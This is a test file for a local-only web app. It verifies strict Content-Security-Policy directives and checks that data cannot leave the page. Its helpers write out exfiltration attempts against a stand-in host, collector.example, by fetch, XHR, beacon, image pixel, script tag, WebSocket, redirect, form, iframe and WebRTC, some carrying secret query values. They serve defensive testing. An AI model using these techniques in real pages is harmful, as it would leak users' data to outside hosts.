/**
 * Nothing leaves the device, in a real browser: every page carries a Content-Security-Policy that
 * allows only the app's own origin, and the browser enforces it — requests to any other host are
 * blocked before they are made, whatever code on the page tries. Any request that did reach the
 * network layer for another host would be caught here and answered, so a missing policy shows up
 * as a recorded request, not as a lucky network failure.
 */
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { Page } from 'playwright-core';
import { afterEach, describe, expect, it } from 'vitest';
import { openApp, type E2EApp } from '../support/e2e';
import { appPages, pageUrl } from './safety-helpers';

let app: E2EApp | undefined;
afterEach(async () => {
	await app?.close();
	app = undefined;
});
const scratch = mkdtempSync(path.join(tmpdir(), 'gd-e2e-net-'));

/** Answers (and records) every request for a host other than 127.0.0.1. */
async function catchForeignRequests(e2e: E2EApp) {
	const foreign: string[] = [];
	await e2e.context.route(
		(url) => url.hostname !== '127.0.0.1',
		async (route) => {
			foreign.push(route.request().url());
			await route.fulfill({
				status: 200,
				body: 'leaked',
				headers: { 'access-control-allow-origin': '*' }
			});
		}
	);
	return foreign;
}

/** The CSP directives of the page, from its meta element (static hosting sends no headers). */
async function policyOf(page: Page): Promise<Map<string, string[]>> {
	const content = await page
		.locator('meta[http-equiv="content-security-policy" i]')
		.getAttribute('content');
	expect(content, `no Content-Security-Policy on ${page.url()}`).toBeTruthy();
	return new Map(
		content!
			.split(';')
			.map((d) => d.trim().split(/\s+/))
			.filter((parts) => parts[0])
			.map(([name, ...values]) => [name!, values])
	);
}

/** Everything a page could do to send data away, tried from inside the page. */
async function tryToLeak(page: Page) {
	return page.evaluate(async () => {
		const violations: string[] = [];
		document.addEventListener('securitypolicyviolation', (e) =>
			violations.push(e.effectiveDirective)
		);
		const outcome = async (attempt: () => Promise<unknown>) => {
			try {
				await attempt();
				return 'sent';
			} catch {
				return 'blocked';
			}
		};
		const results = {
			fetch: await outcome(() => fetch('https://collector.example/data?secret=1')),
			xhr: await outcome(
				() =>
					new Promise((resolve, reject) => {
						const x = new XMLHttpRequest();
						x.open('POST', 'https://collector.example/xhr');
						x.onload = resolve;
						x.onerror = reject;
						x.send('secret');
					})
			),
			// sendBeacon only queues; whether it left is told by the route below and the violation.
			beacon: navigator.sendBeacon('https://collector.example/beacon', 'secret')
				? 'queued'
				: 'refused',
			image: await outcome(
				() =>
					new Promise((resolve, reject) => {
						const img = new Image();
						img.onload = resolve;
						img.onerror = reject;
						img.src = 'https://collector.example/pixel.png?secret=1';
					})
			),
			script: await outcome(
				() =>
					new Promise((resolve, reject) => {
						const s = document.createElement('script');
						s.src = 'https://collector.example/tracker.js';
						s.onload = resolve;
						s.onerror = reject;
						document.head.append(s);
					})
			),
			inlineScript: (() => {
				const s = document.createElement('script');
				s.textContent = 'window.__inlineRan = true';
				document.head.append(s);
				return (window as unknown as { __inlineRan?: boolean }).__inlineRan ? 'ran' : 'blocked';
			})(),
			websocket: await outcome(
				() =>
					new Promise((resolve, reject) => {
						const ws = new WebSocket('wss://collector.example/socket');
						ws.onopen = resolve;
						ws.onerror = reject;
					})
			)
		};
		await new Promise((r) => setTimeout(r, 1000));
		return { results, violations: [...new Set(violations)].sort() };
	});
}

describe('no network', () => {
	it('every page carries a policy that allows only its own origin', async () => {
		app = await openApp();
		const { page } = app;
		const pages = appPages();
		expect(pages).toEqual(expect.arrayContaining(['/', '/assessments/', '/settings/', '/assess/']));
		for (const p of pages) {
			await page.goto(`${app.url}${p}`);
			const policy = await policyOf(page);
			expect(policy.get('default-src'), p).toEqual(["'self'"]);
			expect(policy.get('connect-src'), p).toEqual(["'self'"]);
			expect(policy.get('font-src'), p).toEqual(["'self'"]);
			expect(policy.get('object-src'), p).toEqual(["'none'"]);
			expect(policy.get('form-action'), p).toEqual(["'self'"]);
			expect(policy.get('frame-src'), p).toEqual(["'none'"]);
			expect(policy.get('base-uri'), p).toEqual(["'self'"]);
			const scripts = policy.get('script-src') ?? [];
			expect(scripts[0], p).toBe("'self'");
			// Only SvelteKit's own start-up scripts, by hash: no inline code, no eval, no hosts.
			// ('wasm-unsafe-eval' lets the PDF font subsetter compile WebAssembly; it runs no text.)
			expect(
				scripts
					.slice(1)
					.every((s) => /^'sha256-[A-Za-z0-9+/=]+'$/.test(s) || s === "'wasm-unsafe-eval'"),
				`${p}: ${scripts.join(' ')}`
			).toBe(true);
			for (const [name, values] of policy)
				for (const v of values)
					expect(v, `${p} ${name}`).toMatch(
						/^('self'|'none'|'unsafe-inline'|'wasm-unsafe-eval'|'sha256-.+'|data:|blob:)$/
					);
		}
	});

	it('blocks every attempt from a page to reach another host', async () => {
		app = await openApp();
		const foreign = await catchForeignRequests(app);
		const { page } = app;
		for (const p of ['/', '/assessments/', '/settings/']) {
			await page.goto(`${app.url}${p}`);
			const { results, violations } = await tryToLeak(page);
			expect(results, p).toEqual({
				fetch: 'blocked',
				xhr: 'blocked',
				beacon: expect.any(String),
				image: 'blocked',
				script: 'blocked',
				inlineScript: 'blocked',
				websocket: 'blocked'
			});
			expect(violations, p).toEqual(
				expect.arrayContaining(['connect-src', 'img-src', 'script-src-elem'])
			);
		}
		expect(foreign).toEqual([]);
	});

	it('keeps the window on the app when a page tries to send it to another host', async () => {
		app = await openApp();
		const foreign = await catchForeignRequests(app);
		const { page } = app;
		const attempts = {
			location: () => {
				location.href = 'https://collector.example/location?secret=1';
			},
			assign: () => location.assign('https://collector.example/assign?secret=1'),
			metaRefresh: () => {
				const meta = document.createElement('meta');
				meta.httpEquiv = 'refresh';
				meta.content = '0;url=https://collector.example/refresh?secret=1';
				document.head.append(meta);
			},
			link: () => {
				const a = document.createElement('a');
				a.href = 'https://collector.example/link?secret=1';
				document.body.append(a);
				a.click();
			},
			form: () => {
				const form = document.createElement('form');
				form.method = 'post';
				form.action = 'https://collector.example/form';
				document.body.append(form);
				form.submit();
			},
			frameMovesTop: () => {
				const frame = document.createElement('iframe');
				document.body.append(frame);
				frame.contentWindow!.top!.location.href = 'https://collector.example/top?secret=1';
			},
			foreignFrame: () => {
				const frame = document.createElement('iframe');
				frame.src = 'https://collector.example/frame?secret=1';
				document.body.append(frame);
			}
		};
		for (const [name, attempt] of Object.entries(attempts)) {
			await page.goto(`${app.url}/assessments/`);
			await page.getByRole('heading', { level: 1 }).waitFor();
			await page.evaluate(`(${attempt.toString()})()`);
			await page.waitForTimeout(1000);
			expect(page.url(), name).toBe(`${app.url}/assessments/`);
			await expect(page.getByRole('heading', { level: 1 }).count(), name).resolves.toBe(1);
		}
		expect(foreign).toEqual([]);
	});

	it('offers page scripts no WebRTC peer connection, which could reach any host over UDP', async () => {
		app = await openApp();
		const { page } = app;
		for (const p of ['/', '/assess/']) {
			await page.goto(`${app.url}${p}`);
			const outcome = await page.evaluate(() => {
				const w = window as unknown as Record<string, unknown>;
				try {
					new RTCPeerConnection({ iceServers: [{ urls: 'stun:collector.example:3478' }] });
					return 'created';
				} catch {
					return {
						standard: typeof w.RTCPeerConnection,
						prefixed: typeof w.webkitRTCPeerConnection
					};
				}
			});
			expect(outcome, p).toEqual({ standard: 'undefined', prefixed: 'undefined' });
		}
	});

	it('tells no site which page or assessment was open (no Referer)', async () => {
		app = await openApp();
		const { page } = app;
		const referers: string[] = [];
		// The service worker's own precache requests name only /service-worker.js; what matters
		// is what the pages send.
		app.context.on('request', (r) => {
			const referer = r.serviceWorker() ? undefined : r.headers()['referer'];
			if (referer) referers.push(`${r.url()} ← ${referer}`);
		});
		await page.goto(`${app.url}/assess/?id=some-assessment`);
		await page.waitForLoadState('networkidle');
		expect(app.requests.length).toBeGreaterThan(3);
		expect(referers).toEqual([]);
	});

	it('requests nothing from any other host through a whole working session', async () => {
		app = await openApp();
		const foreign = await catchForeignRequests(app);
		const { page } = app;
		const violations: string[] = [];
		await page.addInitScript(() =>
			document.addEventListener('securitypolicyviolation', (e) =>
				console.error(`csp-violation ${e.effectiveDirective} ${e.blockedURI}`)
			)
		);
		page.on('console', (m) => {
			if (m.text().startsWith('csp-violation')) violations.push(m.text());
		});
		await page.goto(`${app.url}/assessments/`);
		await page.getByRole('button', { name: '试用示例城市' }).click();
		await page.getByText('已载入示例城市').waitFor();
		await page.getByRole('link', { name: '示例市' }).click();
		await page.waitForURL(/\/subject\/\?id=/);
		const subject = new URL(page.url()).searchParams.get('id')!;
		await page.getByRole('link', { name: '填写' }).first().click();
		await page.waitForURL(/\/assess\/\?id=/);
		const assessment = new URL(page.url()).searchParams.get('id')!;
		await page.locator('article.indicator').first().waitFor();
		await page.locator('article.indicator').first().locator('input[type=radio][value="3"]').check();
		await page.getByTestId('save-state').filter({ hasText: '已保存' }).waitFor();
		for (const p of appPages()) {
			await page.goto(pageUrl(app.url, p, { subject, assessment }));
			await page.waitForLoadState('networkidle');
		}
		await page.goto(`${app.url}/assessments/`);
		const [download] = await Promise.all([
			page.waitForEvent('download'),
			page.getByRole('button', { name: '导出全部数据' }).click()
		]);
		await download.saveAs(path.join(scratch, download.suggestedFilename()));

		expect(app.requests.length).toBeGreaterThan(10);
		expect(app.requests.filter((u) => !u.startsWith(app!.url) && !/^(data|blob):/.test(u))).toEqual(
			[]
		);
		expect(foreign).toEqual([]);
		expect(violations).toEqual([]);
	});
});
